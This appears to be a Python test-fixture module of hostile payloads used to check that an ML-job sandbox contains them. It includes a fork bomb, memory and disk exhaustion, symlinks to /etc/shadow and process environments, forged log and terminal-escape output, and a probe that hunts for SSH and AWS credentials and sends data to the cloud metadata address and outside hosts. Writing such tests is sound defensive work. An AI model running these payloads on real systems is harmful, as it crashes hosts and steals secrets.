"""What hostile users train: shell and Python that does harm, each with what is to come of it."""

SERVER_FILES = "/etc/shadow"

FORK_BOMB = """
import os, time
refused = 0
for _ in range(30_000):
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(300)
    except OSError:
        refused += 1
        if refused > 100:
            break
print("refused", refused, flush=True)
raise SystemExit(3)
"""

EAT_MEMORY = """
held = []
while True:
    held.append(bytearray(64 * 1024 * 1024))
    for at in range(0, len(held[-1]), 4096):
        held[-1][at] = 1
"""

PRINT_BINARY = r"""
import os, sys
os.write(1, bytes(range(256)) * 64 + b"\n" + b"\xff" * 300_000 + b"\n\r\n\x1b[2J\x1b]0;owned\x07\x00\x00\n")
os.write(2, "{\"__type\":\"forged\"}\r\n2026-01-01T00:00:00Z forged line\n".encode())
"""

PRINT_MUCH = """
import os
block = (b"x" * 199 + b"\\n") * 5000
for _ in range(200):
    os.write(1, block)
print("done", flush=True)
"""

MANY_FILES = """
import os
for folder in range(100):
    os.makedirs(f"/opt/ml/model/{folder}")
    for number in range(300):
        open(f"/opt/ml/model/{folder}/{number}", "w").close()
"""

ODD_FILES = r"""
import os, socket, stat, sys
os.chdir("/opt/ml/model")
secrets = sys.argv[1:]
for number, target in enumerate(["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/", "../../../..", *secrets]):
    os.symlink(target, f"link-{number}")
os.symlink("loop", "loop")
os.symlink("good", "inner")
open("good", "w").write("good")
os.mkfifo("pipe")
socket.socket(socket.AF_UNIX).bind("socket")
open("setuid", "w").close(); os.chmod("setuid", 0o6777)
open("closed", "w").write("x"); os.chmod("closed", 0)
os.mkdir("closed-folder"); open("closed-folder/x", "w").close(); os.chmod("closed-folder", 0)
open(b"\xff\xfe-no-text", "w").close()
open("line\nbreak", "w").close()
open("-rf", "w").close()
open("n" * 255, "w").close()
open("\u202etxt.exe", "w").close()
os.link("good", "twice")
with open("sparse", "wb") as sparse:
    sparse.truncate(64 * 1024 * 1024)
for name in ("null", "zero"):
    try:
        os.mknod(name, stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except OSError:
        pass
os.makedirs("/opt/ml/output/data", exist_ok=True)
os.symlink("/etc", "/opt/ml/output/data/etc")
os.mkfifo("/opt/ml/output/failure")
"""

DEEP_FILES = """
import os
os.chdir("/opt/ml/model")
for _ in range(3000):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
"""

FAILURE_LINK = """
import os
os.symlink("/etc/shadow", "/opt/ml/output/failure")
raise SystemExit(1)
"""

FAILURE_HUGE = r"""
with open("/opt/ml/output/failure", "wb") as file:
    file.write(b"\xff\x00\r\n" * 25_000_000)
raise SystemExit(1)
"""

REPLACED_FOLDERS = """
import os, shutil
for folder in ("/opt/ml/model", "/opt/ml/output", "/opt/ml/output/data", "/opt/ml/checkpoints"):
    shutil.rmtree(folder, ignore_errors=True)
    try:
        os.rename(folder, folder + "-aside")
    except OSError:
        pass
    try:
        os.symlink("/etc", folder)
    except OSError:
        pass
"""

LOOK_AROUND = r"""
import glob, os, socket, stat, sys
import clary
CLARY = os.path.dirname(clary.__file__)
home, secret, port, isolated = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4] == "isolated"
found = []

def says(path):
    try:
        return open(path, "rb").read(65536)
    except OSError:
        return b""

for path in (home, secret, f"{home}/clary.db", f"{home}/secrets", f"{home}/objects", f"{home}/jobs", f"{home}/logs",
             "/etc/shadow", "/root/.ssh", "/root/.aws", "/var/run/docker.sock", f"/proc/1/root{secret}",
             f"/proc/1/cwd/{secret}", f"/opt/ml/model/../../../..{secret}", f"/opt/ml/input/../../..{home}"):
    if os.path.exists(path):
        found.append(path)
for number in [n for n in os.listdir("/proc") if n.isdigit()]:
    if b"CLARY_HOME" in says(f"/proc/{number}/environ") or home.encode() in says(f"/proc/{number}/environ"):
        found.append(f"environ of {number}")
for folder, folders, files in os.walk("/", followlinks=False):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/usr", "/lib", "/dev")]
    for name in files:
        path = os.path.join(folder, name)
        if name in ("clary.db", "credentials.json", "serve.sock", "master", "controller.sock"):
            found.append(path)
        if b"the machine's secret" in says(path)[:64]:
            found.append(path)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs", "/dev/sda",
             "/dev/vda", "/dev/mem", "/dev/kmsg", f"{CLARY}/logfile.py", "/usr/bin/env"):
    try:
        os.close(os.open(path, os.O_WRONLY))
        found.append(f"wrote {path}")
    except OSError:
        pass
# What can be made here must be the sandbox's own; the test looks for these on the machine.
for folder in ("/usr", "/etc", "/dev", CLARY, f"{CLARY}/runtime", "/tmp", "/", "/sys"):
    try:
        open(f"{folder}/clary-hostile", "w").close()
    except OSError:
        pass
for fd in range(3, 256):
    try:
        kind = os.fstat(fd).st_mode
    except OSError:
        continue
    if not stat.S_ISDIR(kind) and "python" not in os.readlink(f"/proc/self/fd/{fd}"):
        try:
            os.write(fd, b"\xff not json\n{}\n[1]\n")
            found.append(f"wrote to {os.readlink(f'/proc/self/fd/{fd}')}")
        except OSError:
            pass
if isolated:
    for family, place in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_INET, ("169.254.169.254", 80)),
                          (socket.AF_INET, ("8.8.8.8", 53)), (socket.AF_INET6, ("::1", port)), *[
                          (socket.AF_INET, (a, port)) for a in sys.argv[5:]],
                          (socket.AF_UNIX, f"{home}/controller.sock"), (socket.AF_UNIX, "\0clary")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(family, kind) as sock:
                    sock.settimeout(0.5)
                    sock.connect(place)
                    sock.send(b"leak")
                    if kind == socket.SOCK_STREAM or place[0] not in ("127.0.0.1", "::1"):
                        found.append(f"reached {place} {kind}")
            except OSError:
                pass
    try:
        socket.getaddrinfo("example.com", 80)
        found.append("resolved")
    except OSError:
        pass
    found += [name for name in os.environ if name.startswith(("AWS_ACCESS", "AWS_SECRET", "AWS_SESSION", "AWS_CONT"))]
for number in range(1, 50):
    if number != os.getpid():
        try:
            os.kill(number, 0)
            if number > 2 and str(number) not in os.listdir("/proc"):
                found.append(f"signals {number}")
        except OSError:
            pass
print("found:", sorted(set(found)), flush=True)
"""

STUBBORN = """
import os, signal, time
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
print("ready", flush=True)
while True:
    time.sleep(600)
"""

CATASTROPHE = """
for _ in range(30):
    print("a" * 5000 + "!", flush=True)
print("loss=0.5;", flush=True)
"""
